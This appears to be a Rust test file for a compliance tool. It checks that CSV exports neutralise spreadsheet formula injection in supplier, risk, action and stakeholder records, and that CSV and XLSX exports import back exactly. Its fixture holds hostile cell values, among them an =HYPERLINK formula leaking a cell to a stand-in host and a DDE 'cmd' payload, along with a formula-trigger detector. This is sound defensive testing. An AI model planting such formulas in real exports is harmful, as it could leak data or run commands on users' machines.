//! Text received from outside (a supplier list, a typed note) that a spreadsheet would
//! run as a formula never comes back out of a CSV export ready to run, in any register;
//! it reads back in as typed; and the XLSX export keeps text as text.

#![allow(clippy::expect_used, clippy::panic)]

use ketenkompas::exchange::{export_register, suppliers, Register, TableFormat};
use ketenkompas::model::Supplier;
use ketenkompas::Dossier;
use ketenkompas_tests::Scratch;

const LINK: &str = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"klik\")";

/// The sample dossier with formulas typed into records of several registers.
fn poisoned(s: &Scratch) -> Dossier {
    let mut d = Dossier::open(&s.sample("gif.kkdossier")).expect("sample");
    let mut supplier = Supplier::named(LINK);
    supplier.address = Some("+5".into());
    supplier.notes = Some("@SUM(A1:A9)".into());
    supplier.products = Some("-2+3+cmd|' /C calc'!A0".into());
    supplier.parent_company = Some("+31201234567".into());
    supplier.sector = Some("1e5".into());
    supplier.facility_type = Some("0012345".into());
    supplier.lng = Some(-3.7);
    d.save_supplier(&supplier).expect("supplier");
    let first = d
        .risk_register(ketenkompas::messages::Lang::Nl)
        .expect("register")
        .rows[0]
        .risk
        .id;
    let mut risk = d.risk(first).expect("risk");
    risk.title = "=1+1".into();
    d.save_risk(&risk).expect("risk");
    let mut action = d.actions().expect("actions").remove(0);
    action.title = "@melding".into();
    d.save_action(&action).expect("action");
    let mut stakeholder = d.stakeholders().expect("stakeholders").remove(0);
    stakeholder.name = "\tverborgen".into();
    d.save_stakeholder(&stakeholder).expect("stakeholder");
    d
}

fn runs_as_formula(cell: &str) -> bool {
    let starts = ['=', '+', '-', '@', '\t', '\r', '\0'];
    cell.starts_with(starts) && cell.parse::<f64>().is_err()
}

#[test]
fn no_register_exports_a_csv_cell_that_a_spreadsheet_would_run() {
    let s = Scratch::new();
    let d = poisoned(&s);
    let mut neutralised = 0;
    for register in Register::ALL {
        let bytes = export_register(&d, register, TableFormat::Csv, "2026-12-06").expect("csv");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        for record in reader.records() {
            for cell in record.expect("record").iter() {
                assert!(
                    !runs_as_formula(cell),
                    "{}: a cell that runs: {cell:?}",
                    register.name()
                );
                neutralised += usize::from(cell.starts_with('\'') && runs_as_formula(&cell[1..]));
            }
        }
    }
    // Supplier name, address, notes and products; risk title; action title; stakeholder.
    assert!(neutralised >= 7, "only {neutralised} neutralised cells");
}

#[test]
fn a_neutralised_csv_and_an_xlsx_export_read_back_exactly() {
    let s = Scratch::new();
    let d = poisoned(&s);
    for format in [TableFormat::Csv, TableFormat::Xlsx] {
        let bytes = export_register(&d, Register::Suppliers, format, "2026-12-06").expect("export");
        let mut other = Dossier::create(
            &s.path(&format!("terug-{}.kkdossier", format.extension())),
            "Terug B.V.",
            2026,
        )
        .expect("create");
        let report = suppliers::import(&mut other, &bytes, false).expect("import");
        assert_eq!(report.invalid, 0, "{format:?}: {:#?}", report.rows);
        assert_eq!(
            other.suppliers().expect("imported"),
            d.suppliers().expect("exported"),
            "{format:?}"
        );
    }
}
